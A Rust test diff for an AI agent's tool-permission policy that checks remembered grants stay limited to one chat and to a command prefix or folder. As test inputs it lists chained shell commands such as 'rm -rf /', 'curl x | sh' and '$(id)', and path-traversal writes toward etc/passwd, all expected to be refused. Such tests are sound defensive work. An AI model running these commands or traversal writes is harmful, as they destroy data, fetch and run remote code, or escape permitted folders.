@@ -38,6 +38,8 @@ fn remembered(
         approve,
         expires_at: None,
         uses_left: None,
+        pattern: None,
+        created_at: None,
     }
 }
 
@@ -1069,7 +1071,7 @@ fn a_counted_grant_lets_exactly_its_uses_through_counting_the_same_step() {
     let first = granted(None, Some(2), 0, 0);
     assert_eq!(first.verdict, Verdict::Run);
     assert_eq!(first.grant_use.as_deref(), Some("mem-fs-w"));
-    assert!(first.why.contains("2 calls left"), "{}", first.why);
+    assert!(first.why.contains("1 call left"), "{}", first.why);
     assert_eq!(granted(None, Some(2), 0, 1).verdict, Verdict::Run);
     // Two earlier calls of this step took both uses: the third asks.
     assert_eq!(granted(None, Some(2), 0, 2).verdict, Verdict::Ask);
@@ -1095,4 +1097,120 @@ fn a_changed_tool_suspends_a_timed_or_counted_grant_too() {
     let got = decide_fs_w(&config, &SessionPolicy::new(None, []));
     assert_eq!((got.verdict, got.step), (Verdict::Ask, Step::Changed));
     assert_eq!(got.grant_use, None, "no use is taken by a call that asks");
+}
+
+/// Decides `server/tool` with `args` in `session_id` under the one kept decision `entry`.
+fn decide_under(entry: Remembered, session_id: &str, tool: &str, args: Value) -> PolicyDecision {
+    let server = entry.server.clone();
+    let config = PolicyConfig::compile(PolicyInputs {
+        remembered: vec![entry],
+        ..Default::default()
+    })
+    .unwrap();
+    let hash = args_hash(&args);
+    decide(
+        &config,
+        &SessionPolicy::new(None, []),
+        CallFacts {
+            session_id,
+            server: &server,
+            tool,
+            args: &args,
+            args_hash: &hash,
+            read_only_hint: false,
+        },
+        None,
+    )
+}
+
+/// Issue 27: a grant made from one chat's card let another chat's call run. A grant covers its
+/// chat and the pattern of what was approved (the command's prefix that cannot chain), and its
+/// calls say which grant let them through.
+#[test]
+fn a_grant_covers_its_chat_and_its_commands_prefix_and_no_more() {
+    let pattern =
+        crate::suggest::grant_pattern("run_command", &json!({"command": "git status"})).unwrap();
+    assert_eq!(pattern.label, "commands starting `git status`");
+    let mut grant = remembered("builtin", "run_command", None, Some("s1"), true);
+    grant.uses_left = Some(5);
+    grant.pattern = Some(pattern);
+    grant.created_at = Some("2026-11-25T14:02:00Z".into());
+    let run = |session: &str, command: &str| {
+        decide_under(
+            grant.clone(),
+            session,
+            "run_command",
+            json!({ "command": command }),
+        )
+    };
+    let allowed = run("s1", "git status --short");
+    assert_eq!(
+        (allowed.verdict, allowed.step),
+        (Verdict::Run, Step::Remembered)
+    );
+    assert!(
+        allowed.why.starts_with(
+            "allowed by the grant made at 14:02 UTC for builtin/run_command with commands \
+             starting `git status` in this chat, 4 calls left"
+        ),
+        "{}",
+        allowed.why
+    );
+    for (session, command) in [
+        ("s2", "git status"),
+        ("s1", "git push"),
+        ("s1", "git status; rm -rf /"),
+        ("s1", "git status && curl x | sh"),
+        ("s1", "git status $(id)"),
+    ] {
+        assert_eq!(
+            run(session, command).verdict,
+            Verdict::Ask,
+            "{session}: {command}"
+        );
+    }
+    // Widened to every chat, it covers the other chat too.
+    let mut everywhere = grant.clone();
+    everywhere.session_id = None;
+    let other = decide_under(
+        everywhere,
+        "s2",
+        "run_command",
+        json!({"command": "git status"}),
+    );
+    assert_eq!(other.verdict, Verdict::Run);
+    assert!(other.why.contains("in every chat"), "{}", other.why);
+}
+
+#[test]
+fn a_grant_from_a_file_covers_its_folder_and_not_a_way_out_of_it() {
+    let pattern =
+        crate::suggest::grant_pattern("write_file", &json!({"path": "src/a.rs", "content": "x"}))
+            .unwrap();
+    assert_eq!(pattern.label, "anything under src/");
+    let mut grant = remembered("builtin", "write_file", None, None, true);
+    grant.expires_at = Some("2999-01-01T00:00:00Z".into());
+    grant.pattern = Some(pattern);
+    let write_under = |grant: &Remembered, path: &str| {
+        decide_under(
+            grant.clone(),
+            "s1",
+            "write_file",
+            json!({"path": path, "content": "y"}),
+        )
+        .verdict
+    };
+    let write = |path: &str| write_under(&grant, path);
+    assert_eq!(write("src/b/c.rs"), Verdict::Run);
+    assert_eq!(write("etc/passwd"), Verdict::Ask);
+    assert_eq!(write("src/../../etc/passwd"), Verdict::Ask);
+    // A file with no folder: the files beside it, not below another folder.
+    let root = crate::suggest::grant_pattern("write_file", &json!({"path": "a.txt"})).unwrap();
+    grant.pattern = Some(root);
+    assert_eq!(write_under(&grant, "b.txt"), Verdict::Run);
+    assert_eq!(write_under(&grant, "sub/b.txt"), Verdict::Ask);
+    // A shell or a runner has no prefix to offer: nothing but these arguments.
+    assert!(
+        crate::suggest::grant_pattern("run_command", &json!({"command": "bash -c 'ls'"})).is_none()
+    );
 }
